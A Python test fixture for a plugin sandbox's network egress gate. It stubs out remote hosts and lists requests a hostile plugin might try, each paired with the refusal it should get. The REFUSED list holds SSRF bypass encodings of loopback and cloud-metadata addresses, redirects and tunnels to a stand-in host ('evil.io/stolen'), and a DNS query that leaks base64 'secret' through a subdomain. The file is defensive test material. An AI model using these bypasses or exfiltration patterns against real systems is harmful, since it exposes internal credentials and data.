"""What is beyond a plugin's door in these tests, and what hostile plugins ask of it."""

from __future__ import annotations

import contextlib
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any

import grpc
from cryptography.hazmat.primitives import serialization
from cryptography.x509 import load_pem_x509_certificate

from aperio_cli.host.way_out import Egress, stubs_of
from aperio_cli.models.artifact import DevelopmentBuild, Project
from aperio_cli.models.limits import Limits
from tests.egress import PUBLIC, Elsewhere, Server, answer_http, read_head
from tests.sandbox.conftest import MIB

if TYPE_CHECKING:
    import socket
    from collections.abc import Iterator
    from pathlib import Path

    from aperio_cli.host.egress import Decision
    from tests.sandbox.conftest import Stage

EGRESS = ("api.box.com:443", "api.box.com:80", "rpc.box.com:443", "*.boxcloud.com:443")
LIMITS = Limits(memory_bytes=768 * MIB, cpu=4.0, processes=128, open_files=256, tmp_bytes=8 * MIB)
OTHERS = "93.184.216.50"
PRIVATE = {"home": "127.0.0.1", "metadata": "169.254.169.254", "corp": "10.0.0.1"}


class _Echo(grpc.GenericRpcHandler):
    def service(self, details: grpc.HandlerCallDetails) -> Any:
        del details
        return grpc.unary_unary_rpc_method_handler(lambda request, _context: b"said " + request)


def lead_away(made: socket.socket) -> None:
    """Answer with a redirect to a host that is not granted."""
    if read_head(made):
        made.sendall(
            b"HTTP/1.1 302 Found\r\nLocation: https://evil.io/stolen\r\nContent-Length: 0\r\n"
            b"Connection: close\r\n\r\n"
        )


def key_pair(pem: Path) -> tuple[bytes, bytes]:
    data = pem.read_bytes()
    key = serialization.load_pem_private_key(data, None)
    form = (serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    certificate = load_pem_x509_certificate(data)
    encoding = serialization.Encoding.PEM
    return key.private_bytes(encoding, *form), certificate.public_bytes(encoding)


def connecting(stage: Stage, **changes: Any) -> DevelopmentBuild:
    build = stage.build(**({"egress": EGRESS, "limits": LIMITS} | changes))
    script = build.script.with_name("connects.py")
    return replace(build, script=script, project=Project(script.parent, build.project.manifest))


@dataclass
class Beyond:
    """What is there.

    Attributes:
        egress: the way to it, for a plugin.
        outside: what the host finds beyond this machine.
        decided: everything that the door has decided.
        stub: a port of this machine that the operator's settings name.
        closed: another port, on which somebody listens, too.
    """

    egress: Egress
    outside: Elsewhere
    decided: list[Decision]
    stub: int
    closed: int


@contextlib.contextmanager
def beyond(pem: Path) -> Iterator[Beyond]:
    """Serve every host of these tests.

    Args:
        pem: a certificate for every name, with its key.
    """
    calls = grpc.server(ThreadPoolExecutor(2), handlers=[_Echo()])
    port = calls.add_secure_port("127.0.0.1:0", grpc.ssl_server_credentials([key_pair(pem)]))
    calls.start()
    outside, decided = Elsewhere(), list[Any]()
    try:
        with (
            Server(answer_http, pem) as secure,
            Server(lead_away, pem) as away,
            Server(answer_http) as plain,
            Server(answer_http) as closed,
        ):
            outside.serve("api.box.com", 443, secure.port)
            outside.serve("evil.io", 443, secure.port)
            outside.serve("eu.boxcloud.com", 443, secure.port)
            outside.serve("away.boxcloud.com", 443, away.port, OTHERS)
            outside.serve("rpc.box.com", 443, port, "93.184.216.35")
            outside.ports[PUBLIC, 80] = plain.port
            for name, address in PRIVATE.items():
                outside.serve(f"{name}.boxcloud.com", 443, closed.port, address)
            outside.names["twice.boxcloud.com"] = [[PUBLIC], ["127.0.0.1"]]
            settings = {"base_url": f"http://localhost:{plain.port}"}
            egress = Egress(
                "acme", settings, stubs_of(settings), record=decided.append, outside=outside
            )
            outside.ports["127.0.0.1", plain.port] = plain.port
            yield Beyond(egress, outside, decided, plain.port, closed.port)
    finally:
        calls.stop(None)


REFUSED: list[tuple[tuple[Any, ...], str]] = [
    (("get", "https://evil.io/"), "403 Refused by aperio: not-granted"),
    (("get", "https://away.boxcloud.com/"), "403 Refused by aperio: not-granted"),  # to evil.io
    (("client", "curl without a proxy", "https://evil.io/"), "Could not resolve host"),
    (("client", "grpc", "evil.io:443"), "UNAVAILABLE"),
    (("tunnel", "evil.io:443", "evil.io"), "HTTP/1.1 403 Refused by aperio: not-granted"),
    (("tunnel", "api.box.com:8443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
    (("tunnel", "93.184.216.34:443"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
    (("tunnel", "169.254.169.254:80"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
    (("tunnel", "2130706433:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
    (("tunnel", "0x7f.1:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
    *((("tunnel", f"{host}:443"), "HTTP/1.1 403 Refused by aperio: not-a-host") for host in (
        "127.1", "127.0.1", "0177.0.0.1", "017700000001", "0x7f000001", "0x7f.0.0.1", "0", "[::1]",
        "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
        "[fe80::1%25eth0]", "127.0.0.01", "api.box.com@127.0.0.1", "%31%32%37.0.0.1", "0xa9fea9fe",
        "2852039166", "0251.0376.0251.0376", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]",
    )),
    *((("tunnel", f"{host}:443"), "HTTP/1.1 403 Refused by aperio: address-as-host") for host in (
        "127.0.0.1", "10.0.0.1", "192.168.1.1", "100.100.100.200", "168.63.129.16",
    )),
    (("tunnel", "home.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
    (("tunnel", "metadata.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
    (("tunnel", "corp.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
    (("relay", "evil.io:443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
    (("tunnel", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
    (("door", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
    (("get", "http://169.254.169.254/latest/meta-data/"), "403"),
    (("connect", "AF_INET", ["169.254.169.254", 80]), "ENETUNREACH"),
    (("connect", "AF_INET", [PUBLIC, 443]), "ENETUNREACH"),
    (("connect", "AF_INET6", ["2606:2800:220:1::1", 443]), "ENETUNREACH"),
    (("connect", "AF_INET6", ["::ffff:93.184.216.34", 443]), "ENETUNREACH"),
    (("connect", "AF_INET", [PUBLIC, 53], "SOCK_DGRAM"), "ENETUNREACH"),
    (("ask_name_server", "8.8.8.8", "c2VjcmV0.evil.io"), "ENETUNREACH"),
    (("ask_name_server", "127.0.0.53", "c2VjcmV0.evil.io"), "timed out"),
]  # fmt: skip
